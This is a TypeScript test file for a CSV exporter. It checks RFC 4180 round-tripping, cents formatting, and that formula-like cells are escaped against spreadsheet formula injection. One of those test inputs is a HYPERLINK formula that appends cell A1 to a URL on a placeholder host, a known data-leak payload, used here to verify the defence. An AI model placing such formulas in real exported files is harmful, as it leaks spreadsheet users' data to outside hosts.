import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import { centsText, csvRow } from "./csv";

/** Reads one row as RFC 4180 has it. */
function cellsOf(row: string): string[] {
  expect(row.endsWith("\r\n")).toBe(true);
  const cells: string[] = [];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n$)/gy;
  for (let match = cell.exec(row); match; match = cell.exec(row)) {
    cells.push((match[1] ?? "").replaceAll('""', '"') || (match[2] ?? ""));
    if (match[3] !== ",") break;
  }
  expect(cell.lastIndex).toBe(row.length);
  return cells;
}

test("a row reads back as what was written, whatever quotes, commas and line ends it holds", () => {
  fc.assert(
    fc.property(fc.array(fc.string({ unit: "binary", maxLength: 12 }), { minLength: 1 }), (texts) => {
      const read = cellsOf(csvRow(texts)).map((cell, index) =>
        cell === texts[index] ? cell : cell.replace(/^'/, ""),
      );
      expect(read).toEqual(texts);
    }),
    { numRuns: 2_000 },
  );
});

describe("text that a spreadsheet would calculate", () => {
  test.each([
    "=1+1",
    "+1 555 0100",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://x.example?"&A1)',
    "＝1+1",
    "＋1",
    "-",
    "--1",
    "-1e5",
    "+1",
  ])("%j is marked as text", (text) => {
    expect(cellsOf(csvRow([text]))).toEqual([`'${text}`]);
  });

  test.each(["-1.50", "0", "1.4800", "-7", "10472", "123456789012345678901234.5"])(
    "the number %s stays one, digit for digit",
    (number) => {
      expect(csvRow([number, 1])).toBe(`${number},1\r\n`);
    },
  );
});

test.each([
  [-105, "-1.05"],
  [-5, "-0.05"],
  [0, "0.00"],
  [54_000, "540.00"],
  [Number.MAX_SAFE_INTEGER, "90071992547409.91"],
])("%d cents are %s units, exactly", (cents, text) => {
  expect(centsText(cents)).toBe(text);
});
